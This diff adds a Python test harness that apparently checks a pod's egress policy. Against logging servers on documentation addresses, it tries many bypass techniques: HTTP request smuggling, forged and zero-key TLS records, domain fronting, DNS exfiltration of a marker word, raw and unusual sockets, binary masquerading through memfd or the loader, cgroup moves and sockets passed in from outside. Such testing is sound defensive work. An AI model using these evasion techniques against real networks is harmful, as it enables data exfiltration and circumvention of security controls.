@@ -1,0 +1,505 @@
+"""policy_bypass: a program that tries, in turn, to get a request past its policy; and the servers that must not see it.
+
+policy_bypass.py origin LOG: in the namespace of the servers. Writes down what comes to the ports that nobody may reach,
+and each packet that crosses eth0 with WORD in it, in the clear.
+policy_bypass.py program CAFILE WAYS...: a line for each attempt: its name, and what came of it.
+policy_bypass.py lend PATH NUMBER: what is no part of the pod makes sockets, and gives one each to who calls at PATH.
+"""
+import ctypes
+import errno
+import glob
+import os
+import select
+import socket
+import ssl
+import struct
+import sys
+
+SITE, NAMES, OTHER, LOOPBACK = "203.0.113.10", "203.0.113.53", "203.0.113.54", "127.0.0.1"
+WORD = b"secret"
+DENIED = b"GET /secret HTTP/1.1\r\nHost: good.example\r\n\r\n"
+ALLOWED = b"GET /ok HTTP/1.1\r\nHost: good.example\r\n\r\n"
+CLOSED = 9000  # a port of the site that no rule allows
+FASTOPEN, MPTCP, SCTP, UDPLITE = 0x20000000, 262, 132, 136
+
+
+# ---- the servers --------------------------------------------------------------------------------------
+
+
+def origin(log):
+    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
+    wire.bind(("eth0", 0))
+    listeners = [socket.create_server((address, port)) for address, port in ((SITE, CLOSED), (OTHER, 53))]
+    heard = []
+    for address, port in (SITE, 443), (SITE, CLOSED), (OTHER, 53):
+        heard.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
+        heard[-1].bind((address, port))
+    with open(log, "a", encoding="ascii") as out:
+        print("serves", file=out, flush=True)
+        while True:
+            for sock in select.select([wire, *listeners, *heard], [], [])[0]:
+                if sock is wire:
+                    packet = wire.recv(65536)
+                    if WORD in packet:
+                        print("wire", packet, file=out, flush=True)
+                elif sock in heard:
+                    print("datagram", sock.getsockname(), sock.recv(65536), file=out, flush=True)
+                else:
+                    conn, _ = sock.accept()
+                    conn.settimeout(20)
+                    try:
+                        said = conn.recv(65536)
+                    except OSError:
+                        said = b""
+                    if said:
+                        print("connection", sock.getsockname(), said, file=out, flush=True)
+                    conn.close()
+
+
+# ---- what the program has -----------------------------------------------------------------------------
+
+
+def tcp(address=SITE, port=443, family=socket.AF_INET):
+    sock = socket.socket(family, socket.SOCK_STREAM)
+    sock.settimeout(30)
+    sock.connect((address, port))
+    return sock
+
+
+def tls(sock=None, name="good.example", context=None, alpn=("http/1.1",)):
+    context = context or ssl.create_default_context(cafile=CAFILE)
+    context.set_alpn_protocols(list(alpn))
+    return context.wrap_socket(sock or tcp(), server_hostname=name)
+
+
+def answers(sock, wanted=1):
+    """The status of each answer, until there are so many or the connection ends; "nothing" when it does without one."""
+    got = b""
+    try:
+        while got.count(b"HTTP/1.") < wanted and (more := sock.recv(65536)):
+            got += more
+    except OSError:
+        pass
+    return " ".join(line.split(b" ")[1].decode() for line in got.split(b"\n") if line.startswith(b"HTTP/1.")) or "nothing"
+
+
+def say(sock, data=DENIED, wanted=1):
+    sock.sendall(data)
+    return answers(sock, wanted)
+
+
+def hello(*extensions, legacy=0x0303):
+    """A ClientHello by hand."""
+    name = b"good.example"
+    sni = struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
+    all_of = sni + bytes.fromhex("000a000400020017" "000d00040002" "0403") + b"".join(extensions)
+    body = struct.pack(">H", legacy) + bytes(32) + b"\0" + bytes.fromhex("0002c02b0100")
+    body += struct.pack(">H", len(all_of)) + all_of
+    message = b"\x01" + struct.pack(">I", len(body))[1:] + body
+    return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message
+
+
+def record(kind, data):
+    return bytes((kind, 3, 3)) + struct.pack(">H", len(data)) + data
+
+
+# ---- the ways -----------------------------------------------------------------------------------------
+
+
+def asks():
+    return say(tls())
+
+
+def refuses_our_leaf():
+    return say(tls(context=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)))
+
+
+def zero_key(sock):
+    """Records that the kernel makes, or, where it has no such module, the same ones by hand."""
+    try:
+        sock.setsockopt(socket.IPPROTO_TCP, 31, b"tls")  # TCP_ULP
+        sock.setsockopt(282, 1, struct.pack("<HH8s16s4s8s", 0x303, 51, bytes(8), bytes(16), bytes(4), bytes(8)))
+        sock.sendall(DENIED)
+        return answers(sock)
+    except OSError as error:
+        if error.errno not in (errno.ENOENT, errno.ENOPROTOOPT):
+            raise
+    return say(sock, record(23, bytes(8) + DENIED + bytes(16)))
+
+
+def ktls_zero_key():
+    return zero_key(tcp())
+
+
+def ktls_behind_a_hello():
+    sock = tcp()
+    sock.sendall(hello())
+    return zero_key(sock)
+
+
+def ktls_behind_a_handshake():
+    sock = tls()
+    return zero_key(socket.socket(fileno=sock.detach()))
+
+
+def plain_bytes():
+    return say(tcp())
+
+
+def odd_bytes():
+    return say(tcp(), b"\0\0\0\x0bsecret word\n" + DENIED)
+
+
+def old_ssl():
+    return say(tcp(), bytes.fromhex("802e0100020015000000100100800200800300800400800500800600") + DENIED)
+
+
+def old_tls():
+    return say(tcp(), hello(legacy=0x0300) + DENIED)
+
+
+def early_data():
+    return say(tcp(), hello(bytes.fromhex("002a0000")) + record(23, DENIED))
+
+
+def ech():
+    inner = b"\0\0\x01\0\x01\x07\0\0" + struct.pack(">H", 32 + len(DENIED)) + bytes(32) + DENIED
+    return say(tcp(), hello(struct.pack(">HH", 0xFE0D, len(inner)) + inner) + record(23, DENIED))
+
+
+def other_protocol():
+    return say(tls(alpn=["acme-tls/1"]))
+
+
+def fronting():
+    return say(tls(), DENIED.replace(b"good", b"evil").replace(b"/secret", b"/ok?secret"))
+
+
+def other_name():
+    return say(tls(name="evil.example"))
+
+
+def upgrade(to):
+    sock = tls()
+    return say(sock, ALLOWED[:-2] + b"Connection: upgrade\r\nUpgrade: " + to + b"\r\n\r\n" + DENIED, 2)
+
+
+def upgrade_websocket():
+    return upgrade(b"websocket")
+
+
+def upgrade_h2c():
+    return upgrade(b"h2c")
+
+
+def connect_method():
+    return say(tls(), b"CONNECT good.example:443 HTTP/1.1\r\nHost: good.example:443\r\n\r\n" + DENIED)
+
+
+def absolute_form():
+    return say(tls(), DENIED.replace(b" /", b" https://good.example/"))
+
+
+def bytewise():
+    sock = tls()
+    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    for byte in DENIED:
+        sock.send(bytes((byte,)))
+    return answers(sock)
+
+
+def pipelined():
+    return say(tls(), ALLOWED + DENIED, 2)
+
+
+def behind_a_body():
+    return say(tls(), ALLOWED[:-2] + b"Content-Length: 4\r\n\r\nbody" + DENIED, 2)
+
+
+def two_lengths():
+    head = b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(DENIED)
+    return say(tls(), ALLOWED[:-2] + head + DENIED)
+
+
+def chunked_and_length():
+    head = b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (len(DENIED) + 5)
+    return say(tls(), ALLOWED[:-2] + head + DENIED)
+
+
+def path_of_dots():
+    return say(tls(), DENIED.replace(b"/secret", b"/ok/../secret"))
+
+
+def fast_open():
+    sock = socket.socket()
+    sock.sendto(DENIED, FASTOPEN, (SITE, 443))
+    return answers(sock)
+
+
+def fast_open_elsewhere():
+    sock = socket.socket()
+    sock.sendto(DENIED, FASTOPEN, (SITE, CLOSED))
+
+
+def closed_port():
+    say(tcp(port=CLOSED))
+
+
+def mapped_address():
+    say(tcp("::ffff:" + SITE, CLOSED, socket.AF_INET6))
+
+
+def connects_again():
+    sock = tcp()
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.connect(sock.fileno(), bytes(16), 16):  # AF_UNSPEC
+        return errno.errorcode[ctypes.get_errno()]
+    sock.connect((SITE, CLOSED))
+    return say(sock)
+
+
+def bound_to_a_device():
+    sock = socket.socket()
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
+    sock.connect((SITE, CLOSED))
+    return say(sock)
+
+
+def listener_that_connects():
+    sock = socket.create_server(("", 0))
+    sock.shutdown(socket.SHUT_RD)
+    sock.connect((SITE, CLOSED))
+    return say(sock)
+
+
+def quic():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.connect((SITE, 443))
+        sock.send(bytes.fromhex("c300000001") + bytes(1195) + WORD)
+
+
+def datagram_connected_again():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.connect((NAMES, 53))
+        sock.connect((SITE, CLOSED))
+        sock.send(WORD)
+
+
+def datagrams_at_once():
+    """sendmmsg: to whom it may, then to whom it may not."""
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    libc = ctypes.CDLL(None, use_errno=True)
+    data = ctypes.create_string_buffer(WORD)
+    keep, headers = [data], b""
+    for address, port in (LOOPBACK, 9), (SITE, CLOSED):
+        name = ctypes.create_string_buffer(struct.pack("<H", 2) + struct.pack(">H", port) + socket.inet_aton(address) + bytes(8), 16)
+        iov = ctypes.create_string_buffer(struct.pack("<QQ", ctypes.addressof(data), len(WORD)), 16)
+        keep += name, iov
+        headers += struct.pack("<QIIQQQQI4xI4x", ctypes.addressof(name), 16, 0, ctypes.addressof(iov), 1, 0, 0, 0, 0)
+    return "%d of 2" % libc.sendmmsg(sock.fileno(), headers, 2, 0)
+
+
+def datagram_with_source():
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    source = struct.pack("<i4s4s", 0, socket.inet_aton("192.0.2.2"), bytes(4))
+    sock.sendmsg([WORD], [(socket.IPPROTO_IP, 8, source)], 0, (SITE, CLOSED))  # IP_PKTINFO
+
+
+def other_resolver():
+    question = bytes.fromhex("00010100000100000000000006") + WORD + bytes.fromhex("0000010001")
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.settimeout(20)
+        sock.sendto(question, (OTHER, 53))
+        return "rcode %d" % (sock.recv(512)[3] & 15)
+
+
+def other_resolver_tcp():
+    question = bytes.fromhex("00010100000100000000000006") + WORD + bytes.fromhex("0000010001")
+    sock = tcp(OTHER, 53)
+    sock.sendall(struct.pack(">H", len(question)) + question)
+    return "rcode %d" % (sock.recv(512)[5] & 15)
+
+
+def asked(*questions):
+    sock = tcp(NAMES, 53)
+    sock.sendall(b"".join(struct.pack(">H", len(q)) + q for q in questions))
+    got, codes = b"", []
+    while len(codes) < len(questions):
+        more = sock.recv(4096)
+        if not more:
+            break
+        got += more
+        while len(got) > 2 and len(got) >= 2 + (length := struct.unpack(">H", got[:2])[0]):
+            codes.append(str(got[5] & 15))
+            got = got[2 + length:]
+    return "rcode " + ",".join(sorted(codes))
+
+
+HEAD, GOOD = bytes.fromhex("0001010000010000000000000"[:24]), b"\4good\7example\0"
+
+
+def questions_pipelined():
+    return asked(HEAD + GOOD + b"\0\1\0\1", HEAD + b"\6secret\7example\0\0\1\0\1")
+
+
+def question_compressed():
+    return asked(HEAD + b"\6secret\xc0\x0c\0\1\0\1")
+
+
+def raw_socket():
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as sock:
+        sock.sendto(struct.pack(">HHHH", 1, CLOSED, 8 + len(WORD), 0) + WORD, (SITE, 0))
+
+
+def other_kind(kind, protocol):
+    with socket.socket(socket.AF_INET, kind, protocol) as sock:
+        sock.connect((SITE, 443))
+        sock.send(DENIED)
+
+
+def sctp():
+    other_kind(socket.SOCK_SEQPACKET, SCTP)
+
+
+def mptcp():
+    other_kind(socket.SOCK_STREAM, MPTCP)
+
+
+def udplite():
+    other_kind(socket.SOCK_DGRAM, UDPLITE)
+
+
+def becomes(path, way, name="python3"):
+    """What a program at this path, called so, gets that goes this way; told by its last word."""
+    return in_child(lambda: os.execv(path, [name, __file__, "program", CAFILE, way])).split()[-1]
+
+
+def another_sends(path=sys.executable):
+    """Connects, and leaves the sending to a program that it becomes."""
+    sock = tcp()
+    sock.setblocking(True)
+    os.set_inheritable(sock.fileno(), True)
+    os.environ["INHERITED"] = str(sock.fileno())
+    return becomes(path, "inherited")
+
+
+def curly():
+    return becomes(CURLY, "asks")
+
+
+def curly_sends():
+    return another_sends(CURLY)
+
+
+def curly_by_name():
+    return becomes(sys.executable, "asks", CURLY)
+
+
+def curly_by_another_link():
+    os.link(CURLY, CURLY + ".link")
+    return becomes(CURLY + ".link", "asks", CURLY)
+
+
+def curly_in_memory():
+    fd = os.memfd_create(CURLY[1:].replace("/", "-"), 0)
+    with open(sys.executable, "rb") as image:
+        os.sendfile(fd, image.fileno(), 0, os.fstat(image.fileno()).st_size)
+    return becomes("/proc/self/fd/%d" % fd, "asks", CURLY)
+
+
+def curly_by_loader():
+    loader = glob.glob("/lib*/ld-linux-*.so.*")[0]
+    return in_child(lambda: os.execv(loader, [loader, CURLY, __file__, "program", CAFILE, "asks"])).split()[-1]
+
+
+def in_child(what):
+    """By a process of its own, whose last words are the answer."""
+    out, into = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        os.dup2(into, 1)
+        os.dup2(os.open("/dev/null", os.O_WRONLY), 2)
+        try:
+            print(what(), flush=True)
+        except OSError as error:
+            print(errno.errorcode.get(error.errno, error), flush=True)
+        os._exit(0)
+    os.close(into)
+    with open(out, encoding="ascii") as words:
+        said = words.read().strip()
+    os.waitpid(pid, 0)
+    return said
+
+
+def cgroup_below():
+    root = next(line.split()[1] for line in open("/proc/self/mounts", encoding="utf-8") if " cgroup2 " in line)
+    own = root + open("/proc/self/cgroup", encoding="ascii").read().split("::")[1].strip() + "/below"
+
+    def moves():
+        deep = own
+        for _ in range(3):
+            os.makedirs(deep, exist_ok=True)
+            with open(deep + "/cgroup.procs", "w", encoding="ascii") as procs:
+                procs.write("0")
+            deep += "/more"
+        return say(tcp(port=CLOSED))
+
+    return in_child(moves)
+
+
+def lent(sort):
+    """A socket that who is no part of the pod has made."""
+    with socket.socket(socket.AF_UNIX) as lender:
+        lender.connect(LENDER)
+        lender.sendall(sort.encode())
+        _, fds, _, _ = socket.recv_fds(lender, 1, 1)
+    if not fds:
+        return None
+    return socket.socket(fileno=fds[0])
+
+
+def lent_to_connect():
+    sock = lent("unconnected")
+    sock.connect((SITE, CLOSED))
+    return say(sock)
+
+
+def lent_datagram():
+    lent("datagram").sendto(WORD, (SITE, CLOSED))
+
+
+def inherited():
+    return say(socket.socket(fileno=int(os.environ["INHERITED"])))
+
+
+CAFILE, LENDER, CURLY = "", os.environ.get("LENDER", ""), os.environ.get("CURLY", "")
+
+
+def lend(path, number):
+    server = socket.socket(socket.AF_UNIX)
+    server.bind(path)
+    server.listen()
+    for _ in range(number):
+        conn = server.accept()[0]
+        sort = conn.recv(100).decode()
+        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if "datagram" in sort else socket.SOCK_STREAM)
+        socket.send_fds(conn, [b"x"], [sock.fileno()])
+
+
+def program(cafile, ways):
+    global CAFILE
+    CAFILE = cafile
+    for way in ways:
+        try:
+            went = globals()[way]() or "sent"
+        except OSError as error:  # ssl.SSLError, too
+            went = getattr(error, "reason", None) or errno.errorcode.get(error.errno, str(error))
+        print(way, went, flush=True)
+
+
+if sys.argv[1] == "origin":
+    origin(sys.argv[2])
+elif sys.argv[1] == "lend":
+    lend(sys.argv[2], int(sys.argv[3]))
+else:
+    program(sys.argv[2], sys.argv[3:])
